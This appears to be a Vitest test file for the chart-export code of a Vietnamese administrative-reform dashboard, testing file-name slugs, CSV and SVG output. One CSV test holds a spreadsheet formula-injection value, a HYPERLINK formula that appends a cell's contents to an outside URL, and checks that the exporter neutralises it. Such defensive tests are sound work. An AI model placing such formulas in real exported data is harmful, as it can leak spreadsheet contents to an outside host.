import { describe, expect, it } from 'vitest'
import { EXPORT_WIDTH, toCsv } from './export-chart.ts'
import { buildExportSvg, escapeXml, exportLayout, layoutLegend } from './export-svg.ts'
import { exportFileName, slugify } from './slug.ts'

const text = {
  title: 'Chỉ số CCHC và xếp loại',
  subtitle: 'Tỉnh Long An (cấp huyện), 2023',
  source: 'Nguồn: PAR Dashboard — dữ liệu Tỉnh Long An (cấp huyện), 2023',
  legend: [
    { label: 'Tốt (≥ 80)', color: '#482878' },
    { label: 'Khá (≥ 70)', color: '#31688E', pattern: 'hatch' as const },
  ],
}

describe('file names', () => {
  it('are lower-case ASCII with diacritics stripped', () => {
    expect(slugify('Tỉnh Long An')).toBe('tinh-long-an')
    expect(slugify('Đức Hòa')).toBe('duc-hoa')
    expect(exportFileName('ranking', 'long-an', 2023, 'png')).toBe('ranking-long-an-2023.png')
    expect(exportFileName('change', 'Thành phố Long Xuyên', '2019-2024', 'csv')).toBe(
      'change-thanh-pho-long-xuyen-2019-2024.csv',
    )
  })
})

describe('toCsv', () => {
  it('writes a BOM, a header row and raw numbers, quoting where needed', () => {
    const csv = toCsv(
      ['Đơn vị', 'Chỉ số'],
      [
        ['Huyện Thạnh Hóa', 80.1],
        ['A, "B"', null],
      ],
    )
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Đơn vị,Chỉ số',
      'Huyện Thạnh Hóa,80.1',
      '"A, ""B""",',
      '',
    ])
  })

  it('neutralises formula-leading cells and keeps negative numbers numeric', () => {
    const csv = toCsv(
      ['Đơn vị', 'Thay đổi'],
      [
        ['=HYPERLINK("http://x?leak="&A1,"click")', -5.35],
        ['+cmd', -2],
      ],
    )
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Đơn vị,Thay đổi',
      `"'=HYPERLINK(""http://x?leak=""&A1,""click"")",-5.35`,
      "'+cmd,-2",
      '',
    ])
  })
})

describe('legend layout', () => {
  it('wraps items into rows within the width', () => {
    const items = Array.from({ length: 12 }, (_, i) => ({
      label: `Huyện số ${i + 1} rất dài`,
      color: '#000000',
    }))
    const { placed, rows } = layoutLegend(items, 800)
    expect(rows).toBeGreaterThan(1)
    expect(placed.every((p) => p.x < 800)).toBe(true)
    expect(layoutLegend([], 800).rows).toBe(0)
  })
})

describe('buildExportSvg', () => {
  const svg = buildExportSvg(
    text,
    '<svg x="24" y="180" width="1552" height="700"><rect/></svg>',
    '@font-face{}',
  )

  it('is a standalone SVG of the fixed export size', () => {
    expect(svg.startsWith('<svg xmlns="http://www.w3.org/2000/svg" width="1600"')).toBe(true)
    expect(EXPORT_WIDTH).toBeGreaterThanOrEqual(1600)
  })

  it('draws title, subtitle, legend and source inside the SVG', () => {
    for (const part of [text.title, text.subtitle, text.source, 'Tốt (≥ 80)', 'Khá (≥ 70)']) {
      expect(svg).toContain(escapeXml(part))
    }
    expect(svg).toContain('<pattern id="export-legend-1"')
    expect(svg).toContain('@font-face{}')
  })

  it('leaves the chart room below the legend and above the source', () => {
    const layout = exportLayout(text)
    expect(layout.chart.y).toBeGreaterThan(layout.legendTop)
    expect(layout.chart.y + layout.chart.height).toBeLessThan(layout.height - 40)
  })

  it('escapes markup in labels', () => {
    expect(escapeXml('<a & "b">')).toBe('&lt;a &amp; &quot;b&quot;&gt;')
  })
})
